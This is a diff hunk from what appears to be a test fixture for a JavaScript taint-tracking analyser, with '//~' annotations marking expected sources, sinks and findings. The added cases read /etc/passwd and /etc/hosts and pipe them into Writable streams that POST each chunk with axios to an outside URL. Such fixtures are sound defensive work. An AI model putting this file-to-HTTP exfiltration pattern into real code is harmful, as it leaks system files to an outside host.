@@ -150,3 +150,16 @@ function download() {
     answer.pipe(process.stdout); //~ ok
   });
 }
+
+class Own extends stream.Writable {
+  _write(chunk, encoding, next) {
+    axios.post(U, chunk); //~ sink(egress.http) fown, finding(traced) fown
+  }
+}
+
+function ownStreams() {
+  fs.createReadStream("/etc/passwd").pipe(new Own()); //~ source(FILE) fown
+  const made = new stream.Writable({ write: (chunk) => axios.post(U, chunk) }); //~ sink(egress.http) fmade, finding(traced) fmade
+  fs.createReadStream("/etc/hosts").pipe(made); //~ source(FILE) fmade
+  new stream.Writable({ write: (chunk) => axios.post(U, chunk) }); //~ ok
+}
